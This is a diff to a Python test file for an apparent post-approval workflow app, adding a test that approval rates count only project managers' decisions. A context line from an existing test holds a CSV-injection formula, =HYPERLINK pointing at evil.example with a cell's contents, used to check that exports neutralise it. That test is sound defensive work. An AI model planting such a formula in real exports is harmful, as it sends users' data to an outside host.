@@ -284,3 +284,20 @@ def test_the_audit_export_keeps_a_typed_formula_as_text(make, admin_web):
     rows = _csv(admin_web.get("/reports/audit.csv?market=FR"))
     comments = [r[8] for r in rows[1:] if r[4] == "submit"]
     assert comments == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
+
+
+def test_the_approval_rate_counts_the_project_managers_decisions_only(make, web):
+    """A cabinet that sends a suggested message back decides for its executive, not as a reviewer: the rate of
+    approvals among the project managers' decisions leaves it out (it counted as a request for changes)."""
+    fr = make.market("FR")
+    ceo = make.executive("Hélène Marchand")
+    cm = make.user(Role.community_manager, markets=[fr])
+    pm = make.user(Role.project_manager, markets=[fr])
+    cabinet = make.user(Role.cabinet, executives=[ceo])
+    post = make.post(State.draft, account=make.account(fr, executive=ceo), author=cm)
+    make.act(post, Action.submit, cm, now=T(2, 9))
+    make.act(post, Action.approve, pm, now=T(2, 10))
+    make.act(post, Action.request_changes, cabinet, now=T(2, 11), comment="Mme Marchand préfère un autre ton.")
+    web.login(pm)
+    rates = _csv(web.get(f"/reports/rates.csv?market=FR&{PERIOD}"))
+    assert rates[1] == ["approved", "1", "1", "100.0"]
